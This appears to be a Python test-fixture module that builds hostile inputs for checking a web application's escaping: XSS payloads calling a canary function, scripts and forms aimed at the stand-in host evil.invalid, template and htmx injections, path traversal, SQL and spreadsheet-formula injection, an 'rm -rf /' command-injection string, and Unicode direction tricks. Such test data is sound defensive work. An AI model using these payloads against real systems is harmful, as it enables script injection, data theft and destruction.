"""Texts that try to become markup, script, template or another direction of writing."""

import re
from collections.abc import Iterable
from functools import cache
from itertools import product

# Called by whatever is executed: the tests' pages have a function of this name that remembers it.
CANARY = "canary()"
EVIL = "//evil.invalid"

HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin"),
    *("onanimationstart", "onpointerenter", "onbeforetoggle", "onscrollend", "onpageshow"),
)
ELEMENTS = (
    f"<img src=x {{on}}={CANARY}>",
    f"<svg/{{on}}={CANARY}>",
    f'"autofocus {{on}}="{CANARY}" x="',
    f"' {{on}}='{CANARY}' x='",
)
SCRIPTS = (
    f"<script>{CANARY}</script>",
    f"<SCRIPT>{CANARY}</SCRIPT>",
    f"<ScRiPt >{CANARY}</sCrIpT >",
    f"<script\n>{CANARY}</script\n>",
    f"<script\t>{CANARY}</script>",
    f"<script/x>{CANARY}</script>",
    f"<script x='>'>{CANARY}</script>",
    f"<script src={EVIL}/x.js></script>",
    f'<script type="module">{CANARY}</script>',
    f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    f"</title><script>{CANARY}</script>",
    f"</textarea><script>{CANARY}</script>",
    f"</option></select><script>{CANARY}</script>",
    f"</code></pre><script>{CANARY}</script>",
    f"</style><script>{CANARY}</script>",
    f"</script><script>{CANARY}</script>",
    f"</noscript><script>{CANARY}</script>",
    f"</template><script>{CANARY}</script>",
    f"</main></body></html><script>{CANARY}</script>",
    f'"><script>{CANARY}</script>',
    f"'><script>{CANARY}</script>",
    f"`><script>{CANARY}</script>",
    f"\\'><script>{CANARY}</script>",
    f"<<script>{CANARY}//<</script>",
    f"\u00abscript\u00bb{CANARY}\u00ab/script\u00bb",
    f"\uff1cscript\uff1e{CANARY}\uff1c/script\uff1e",
    f"%3Cscript%3E{CANARY}%3C/script%3E",
    f"&lt;script&gt;{CANARY}&lt;/script&gt;",
    f"&#60;script&#62;{CANARY}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{CANARY}&#x3c;/script&#x3e;",
    f"\\u003cscript\\u003e{CANARY}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CANARY}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{CANARY}+ADw-/script+AD4-",
)
MARKUP = (
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    f"<iframe src=javascript:parent.{CANARY}></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data=javascript:{CANARY}></object>",
    f"<embed src={EVIL}/x.swf>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    "<style>*{display:none!important}</style>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<meta charset=utf-7>",
    f"<form action={EVIL}><button>Sign in</button></form>",
    f"<input form=sign-in formaction={EVIL} autofocus>",
    f"<button formaction=javascript:{CANARY}>Continue</button>",
    f"<details open ontoggle={CANARY}>",
    f"<video><source onerror={CANARY}></video>",
    f"<audio src onerror={CANARY}>",
    f"<marquee onstart={CANARY}>",
    f"<body onload={CANARY}>",
    f"<a href=javascript:{CANARY} autofocus tabindex=1>click</a>",
    f"<img srcset='{EVIL}/x.png 1x'>",
    f"<img src={EVIL}/pixel.png>",
    f"<table background={EVIL}/x.png>",
    f"<div style='background:url({EVIL}/x.png)'>",
    f"<div style='position:fixed;inset:0;z-index:9;background:red'>{'x' * 20}</div>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<select><option>",
    "<title>",
    "<noscript>",
    "<template>",
    "<dialog open>",
    "<slot name=main>",
    "<frameset>",
    "<h1>Another heading</h1>",
    "<main id=main>",
    "<nav aria-label=Main>",
    "</div></div></section></main>",
    "</td></tr></table></div>",
    "</li></ol></nav></header>",
    "</a></h1></p></form>",
)
VECTORS = (
    f"<svg><script>{CANARY}</script></svg>",
    f"<svg><script href=data:,{CANARY} /></svg>",
    f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CANARY}><text x=9 y=9>x</text></a></svg>",
    f"<svg><set attributeName=href to=javascript:{CANARY}>",
    f"<svg><use href=data:image/svg+xml,&lt;svg/onload={CANARY}&gt;#x>",
    f"<svg><foreignObject><img src=x onerror={CANARY}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CANARY}></style></svg>",
    f"<math><mi xlink:href=javascript:{CANARY}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CANARY}>",
)
URLS = (
    f"javascript:{CANARY}",
    f"JaVaScRiPt:{CANARY}",
    f"java\tscript:{CANARY}",
    f" javascript:{CANARY}",
    f"javascript://%0a{CANARY}",
    f"&#106;avascript:{CANARY}",
    f"vbscript:{CANARY}",
    f"data:text/html,<script>{CANARY}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CANARY}>",
    f"https:{EVIL}/?a=1&b=2#c",
    EVIL,
    "\\\\evil.invalid\\share",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "?tag=x&status=active#main",
    "%2e%2e%2f%00",
)
TEMPLATES = (
    "{{ 7|add:7 }}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'x' %}",
    "{% include 'base.html' %}",
    "{% endblock %}{% block main %}",
    "{# a comment #}",
    "{% comment %}",
    "{{ '<script>'|safe }}",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{%- for x in range(9) -%}x{%- endfor -%}",
    f"{{{{constructor.constructor('{CANARY}')()}}}}",
    f"{{{{$on.constructor('{CANARY}')()}}}}",
    f"<p v-html=\"'<img src=x onerror={CANARY}>'\">",
    f"<p ng-app ng-csp ng-click={CANARY}>",
    f"<div x-data x-init={CANARY}>",
    f"[[{CANARY}]]",
    f"${{{CANARY}}}",
    f"#{{{CANARY}}}",
    f"<%= {CANARY} %>",
    f"<?php {CANARY} ?>",
    "%(name)s %s %d {0} {name!r:>99}",
    "$(id) `id` ; rm -rf / #",
)
HTMX = (
    f"<div hx-get={EVIL} hx-trigger=load></div>",
    "<div hx-get=/sign-out/ hx-trigger=load></div>",
    "<div hx-post=/sign-out/ hx-trigger=load></div>",
    "<div hx-delete=/instances/ hx-trigger='every 1s'></div>",
    f"<div hx-on:load={CANARY}></div>",
    f"<div hx-on::load={CANARY}></div>",
    f"<div hx-on='load: {CANARY}'></div>",
    f"<div data-hx-on-htmx-load={CANARY}></div>",
    f"<div hx-vals='js:{{a: {CANARY}}}' hx-get=/ hx-trigger=load></div>",
    f"<div hx-trigger='load[{CANARY}]' hx-get=/></div>",
    "<div hx-swap-oob='outerHTML:#main'>gone</div>",
    "<main id=main hx-swap-oob=true>gone</main>",
    "<div hx-boost=true hx-target=body><a href=/>x</a></div>",
    "<div hx-ext=morph hx-disinherit='*'></div>",
    f'" hx-get="{EVIL}" hx-trigger="load',
    f'" data-hx-on:load="{CANARY}',
    "' hx-get=/sign-out/ hx-trigger=load x='",
)
UNENDED = (
    "<",
    ">",
    "<>",
    "</",
    "<a",
    "<a href=",
    "<a href='",
    '<a href="',
    "<img src=x onerror=",
    "<script",
    f"<script>{CANARY}",
    "<!--",
    "<!-- x --!>",
    "-->",
    f"--><script>{CANARY}</script>",
    "<!---><b>",
    "<![CDATA[",
    f"]]><script>{CANARY}</script>",
    f"<![CDATA[<script>{CANARY}</script>]]>",
    "<!DOCTYPE html>",
    "<?xml version='1.0'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&",
    "&amp;amp;",
    "&lt;b&gt;bold&lt;/b&gt;",
    "&nbsp;&shy;&zwj;",
    "&#0;&#x110000;&bogus;",
    "'",
    '"',
    "`",
    "'\"`",
    "\"'><b>",
    "\\",
    "\\\"\\'",
    'O\'Brien "& Sons"',
)
DIRECTIONS = (
    "\u202etxt.exe",
    "\u202e\u202d\u202b\u202a open",
    "\u2066isolate that does not end",
    "\u2067isolate\u2069 that ends twice\u2069",
    "\u2068\u2068\u2068",
    "end\u202c\u202c\u2069\u2069",
    "\u200fright\u200eleft\u061c",
    "\u202e<script>canary()</script>\u202c",
    "\u05d7\u05e9\u05d1\u05d5\u05e0\u05d9\u05ea",
    "\u0641\u0627\u062a\u0648\u0631\u0629 1234 (5)",
    "\u05d0\u05d1\u05d2 abc \u05d3\u05d4\u05d5 (7)",
    "123 \u0634\u0631\u0643\u0629: \u0627\u0644\u0627\u0633\u0645!",
)
CHARACTERS = (
    "zero\u200bwidth\u200c\u200d\ufeff\u2060",
    "\u200b",
    "\u2060\u2060\u2060",
    "soft\u00adhy\u00adphen",
    "Z" + "\u0301" * 60,
    "H\u0336e\u0336" + "".join(chr(0x300 + n % 80) for n in range(120)),
    "\u0e01" + "\u0e49" * 40,
    "\U000e0041\U000e0042\U000e007f",
    "\ufff9anchor\ufffatext\ufffb",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 8,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f1e9\U0001f1ea" * 30,
    "\u2764\ufe0f\u20e3",
    "\ufdfd" * 12,
    "\U0001242b" * 12,
    "\u0410pple \u0440aypal",
    "\uff26\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48",
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31mred\x1b[0m\x7f",
    "\x80\x85\x9b31m\x9f",
    "line\nline\r\nline\rline",
    "line\u2028line\u2029line",
    "tab\ttab\t\ttab",
    " spaces  on  every  side ",
    "\u00a0\u3000\u2003",
    "\ufffd\ufffe\uffff",
    "\U0010ffff\ue000",
    "nul\\u0000 nul\\0 nul%00",
)
LENGTHS = (
    "W" * 600,
    "w" * 599 + "-",
    "\u4e2d" * 600,
    "\ufdfa" * 60,
    "1" * 600,
    "_" * 600,
    "\u00a0".join(["word"] * 120),
    "https:" + EVIL + "/" + "a" * 560,
    "x/" * 300,
    "<b>" * 200,
    "&" * 600,
)
VALUES = (
    *("0", "-1", "1e999", "NaN", "Infinity", "0x7f", "007", "9223372036854775808", "1,000.00"),
    *("true", "false", "null", "None", "undefined", "[object Object]", "[]", "{}"),
    *('{"a": "</script>"}', "2026-02-30T25:61:61Z", "1' OR '1'='1", "'; DROP TABLE x; --"),
    *(
        "=1+1",
        '=HYPERLINK("//evil.invalid")',
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "|cmd|' /C calc'!A0",
    ),
    *(".", "..", "#main", "/", "//", "?", "con", "__proto__", "constructor", "toString"),
)
# What only a database without a rule of its own keeps, and what JSON can say: from the platform.
UNSTORABLE = (
    "nul\x00nul",
    "\x00",
    f"<scr\x00ipt>{CANARY}</scr\x00ipt>",
    f"<img src=x one\x00rror={CANARY}>",
    f"java\x00script:{CANARY}",
    "lone\ud800high",
    "lone\udc00low",
    "\udc00\ud800turned round",
    "\ud83d",
    f"\ud800<script>{CANARY}</script>",
)


def storable() -> list[str]:
    """Return every text that a database takes, each once."""
    handlers = [element.format(on=on) for element, on in product(ELEMENTS, HANDLERS)]
    families = (SCRIPTS, handlers, MARKUP, VECTORS, URLS, TEMPLATES, HTMX, UNENDED)
    others = (DIRECTIONS, CHARACTERS, LENGTHS, VALUES)
    return list(dict.fromkeys(text for family in (*families, *others) for text in family))


def together(texts: Iterable[str], limit: int) -> list[str]:
    """Return `texts` in as few lines of at most `limit` characters as their order allows."""
    lines: list[str] = []
    for text in texts:
        if lines and len(lines[-1]) + len(text) < limit:
            lines[-1] += f" {text}"
        else:
            lines.append(text[:limit])
    return lines


def short() -> list[str]:
    """Return those that fit everywhere, as a page shows them: a browser knows one end of a line."""
    ends = re.compile("\r\n?")
    return [ends.sub("\n", text.strip()) for text in storable() if len(text) <= 40]


@cache
def _lines(limit: int) -> list[str]:
    return together(storable(), limit)


def hostile(number: int, limit: int) -> str:
    """Return what stands in row `number` of a place that takes `limit` characters."""
    return _lines(limit)[number % len(_lines(limit))]


def harmless(number: int, limit: int) -> str:
    """Return a text for the same place that asks for nothing, different where the hostile one is."""
    return f"Plain {number % len(_lines(limit))}"
